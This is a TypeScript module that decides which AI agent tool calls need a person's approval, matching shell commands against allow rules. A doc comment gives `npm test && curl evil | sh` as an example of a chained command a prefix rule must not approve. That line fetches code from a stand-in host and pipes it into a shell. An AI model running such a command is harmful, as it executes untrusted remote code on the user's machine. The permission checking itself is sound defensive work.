/**
 * Which tool calls need a person's approval: the session's permission mode, its allow rules (in
 * Claude Code's syntax) and what each call's plan says about itself. Pure functions.
 */
import type { PlannedToolUse } from '../../shared/activity-io';
import { rulesOf } from './tool-rules';

/**
 * Allow rules in Claude Code's syntax: `Read` (the whole tool), `Bash(npm test)` (that exact
 * command), `Bash(npm run test:*)` (commands starting with `npm run test`).
 *
 * A call whose plan lists the simple commands it runs (Bash, parsed by a shell grammar in the
 * model activity) is approved by patterns only if every one of those commands matches some rule:
 * `Bash(npm test:*)` does not approve `npm test && curl evil | sh`. A plan may also say why no
 * pattern may approve it (`$(…)`, `&`, a redirection outside the workdir: only a bare `Bash`
 * rule or a person can), or why no rule at all may (a settings file: only a person can). Plans
 * recorded before commands were parsed match their subject's start, as they did then.
 */
export function approvedByRules(allowRules: readonly string[], call: PlannedToolUse): boolean {
  const rules = rulesOf(call);
  if (rules.alwaysAsk) return false;
  const patterns: (string | undefined)[] = [];
  for (const rule of allowRules) {
    const match = rule.match(ALLOW_RULE);
    // A bare rule may also name the call's server (`mcp__server`): the plan lists such names.
    // A rule may name the tool by another name (`Task(…)` for an Agent call): the plan lists them.
    const named = match && (match[1] === call.name || rules.aliases?.includes(match[1]!));
    if (match && (named || (match[2] === undefined && rules.allowedBy?.includes(match[1]!)))) patterns.push(match[2]);
  }
  if (patterns.includes(undefined)) return true;
  if (rules.notMatchable) return false;
  const given = patterns.filter((pattern): pattern is string => pattern !== undefined);
  if (rules.commands)
    return (
      rules.commands.length > 0 &&
      rules.commands.every((words) => given.some((pattern) => patternMatchesWords(pattern, words)))
    );
  const subject = (rules.subject ?? '').trim();
  return given.some((pattern) => patternMatchesSubject(pattern, subject));
}

/** A rule: a tool's name (an MCP tool's `mcp__server__tool`, or `mcp__server`, `mcp__server__*`), maybe with a pattern. */
const ALLOW_RULE = /^([A-Za-z]+|mcp__[A-Za-z0-9_-]+?(?:__\*)?)(?:\((.*)\))?$/;

/** One rule against one call (the rule alone must approve it). */
export function matchesAllowRule(rule: string, call: PlannedToolUse): boolean {
  return approvedByRules([rule], call);
}

/** `npm test:*` matches the words `npm test …`; `npm test` only exactly those words. */
function patternMatchesWords(pattern: string, words: readonly string[]): boolean {
  const prefix = pattern.endsWith(':*');
  const expected = (prefix ? pattern.slice(0, -2) : pattern).trim().split(/\s+/).filter(Boolean);
  if (expected.length === 0 || words.length < expected.length || (!prefix && words.length !== expected.length))
    return false;
  return expected.every((word, index) => words[index] === word);
}

/** Plans without parsed commands: the subject's start, as before. */
function patternMatchesSubject(pattern: string, subject: string): boolean {
  if (pattern.endsWith(':*')) {
    const prefix = pattern.slice(0, -2);
    return subject === prefix || subject.startsWith(`${prefix} `);
  }
  return subject === pattern;
}

/** In permissionMode "ask", calls of tools that say so (Write, Edit, Bash) wait unless allow rules approve them. */
export function needsApproval(mode: 'auto' | 'ask', allowRules: readonly string[], call: PlannedToolUse): boolean {
  if (mode === 'auto' || !call.plan.ok) return false;
  if (!rulesOf(call).needsApproval) return false;
  return !approvedByRules(allowRules, call);
}
